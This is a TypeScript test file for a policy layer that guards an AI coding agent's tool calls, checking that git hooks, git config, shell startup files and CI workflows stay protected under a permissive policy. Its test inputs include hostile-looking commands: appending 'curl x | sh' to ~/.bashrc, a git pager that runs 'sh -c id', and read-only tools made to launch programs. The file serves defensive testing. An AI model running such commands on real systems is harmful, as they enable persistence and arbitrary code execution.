import { describe, expect, it } from "vitest";
import { decide, type Policy, type ToolCallForPolicy } from "./policy";
import { decideUnderPolicy, PROTECTED_RULE_IDS } from "./protected";

/** A policy that allows everything: the protections are all that is left. */
const ALLOW_ALL: Policy = {
  id: "yolo",
  name: "Allow everything",
  description: "",
  default: { verdict: "allow", reason: "Everything is allowed." },
  rules: [{ id: "allow-all", description: "", tools: ["run_command", "write_file", "edit_file", "read_file"], match: {}, outcome: "allow", reason: "allowed" }],
};

const run = (command: string): ToolCallForPolicy => ({ tool: "run_command", command });

describe("always-protected paths", () => {
  it.each([
    [{ tool: "write_file", path: ".git/hooks/pre-commit" }, "protected-git-internals"],
    [{ tool: "edit_file", path: "/workspace/vendor/x/.git/config" }, "protected-git-internals"],
    [run("echo x > .git/hooks/post-checkout"), "protected-git-internals"],
    [run("git config core.hooksPath hooks"), "protected-git-config"],
    [run("git -c core.pager='sh -c id' log"), "protected-git-exec-config"],
    [run("echo 'curl x | sh' >> ~/.bashrc"), "protected-shell-startup"],
    [{ tool: "write_file", path: ".profile" }, "protected-shell-startup"],
  ] as [ToolCallForPolicy, string][])("a permissive policy still cannot allow %j (%s)", (call, rule) => {
    expect(decide(call, ALLOW_ALL).verdict).toBe("allow");
    expect(decideUnderPolicy(call, ALLOW_ALL)).toMatchObject({ verdict: "deny", rule });
  });

  it("CI configuration asks at least, never by the run's creator alone", () => {
    const decision = decideUnderPolicy({ tool: "write_file", path: ".github/workflows/ci.yml" }, ALLOW_ALL);
    expect(decision).toMatchObject({ verdict: "ask", rule: "protected-ci-config", allowSelfApproval: false });
    expect(decision.reason).toContain(".github/workflows/ci.yml");
  });

  it("a policy that already asks about CI keeps its own rule and gains the protection's requirements", () => {
    const asking: Policy = {
      ...ALLOW_ALL,
      rules: [
        {
          id: "ci",
          description: "",
          tools: ["write_file"],
          match: { writes: { any: ["**/.github/**"] } },
          outcome: "ask",
          reason: "ci",
          requiredApprovals: 2,
          allowSelfApproval: true,
        },
      ],
    };
    expect(decideUnderPolicy({ tool: "write_file", path: ".github/workflows/ci.yml" }, asking)).toMatchObject({
      verdict: "ask",
      rule: "ci",
      requiredApprovals: 2,
      allowSelfApproval: false,
    });
  });

  it("only the protected part of a compound command is overruled, and it decides", () => {
    const decision = decideUnderPolicy(run("ls && echo x > .git/config && cat README.md"), ALLOW_ALL);
    expect(decision).toMatchObject({ verdict: "deny", rule: "protected-git-internals" });
    expect(decision.parts?.map((p) => [p.verdict, p.rule])).toEqual([
      ["allow", "allow-all"],
      ["deny", "protected-git-internals"],
      ["allow", "allow-all"],
    ]);
  });

  it("reading git internals and ordinary writes are left to the policy", () => {
    expect(decideUnderPolicy({ tool: "read_file", path: ".git/config" }, ALLOW_ALL)).toMatchObject({ verdict: "allow", rule: "allow-all" });
    expect(decideUnderPolicy(run("git commit -m x"), ALLOW_ALL)).toMatchObject({ verdict: "allow" });
    expect(decideUnderPolicy({ tool: "write_file", path: "src/app.ts" }, ALLOW_ALL)).toMatchObject({ verdict: "allow" });
  });

  it("never loosens what the policy decided", () => {
    const strict: Policy = { ...ALLOW_ALL, default: { verdict: "deny", reason: "no" }, rules: [] };
    expect(decideUnderPolicy({ tool: "write_file", path: ".github/workflows/ci.yml" }, strict)).toMatchObject({ verdict: "deny", rule: "default" });
  });

  it.each([
    "rg --hostname-bin ./x.sh foo",
    "rg --pre ./x.sh foo .",
    "sed 's/a/b/e' notes.txt",
    "find . -name '*.log' -exec sh {} ;",
    "sort --compress-program=./x.sh big.txt",
    "git -p log",
  ])("issue 12: a project policy that predates the option tables (it allows every command) still asks about `%s`, which starts a program", (command) => {
    expect(decide(run(command), ALLOW_ALL).verdict).toBe("allow");
    expect(decideUnderPolicy(run(command), ALLOW_ALL)).toMatchObject({ verdict: "ask", rule: "protected-read-only-runs-program" });
  });

  it("issue 12: the protection leaves plain reads alone (`sed -n 1,5p`, `rg foo`, `git log --oneline`)", () => {
    for (const command of ["sed -n 1,5p README.md", "rg foo src", "git log --oneline -5", "find . -name '*.ts'"]) {
      expect(decideUnderPolicy(run(command), ALLOW_ALL).verdict).toBe("allow");
    }
  });

  it("has stable ids", () => {
    expect(PROTECTED_RULE_IDS).toEqual([
      "protected-git-internals",
      "protected-git-config",
      "protected-git-exec-config",
      "protected-read-only-runs-program",
      "protected-shell-startup",
      "protected-ci-config",
    ]);
  });
});
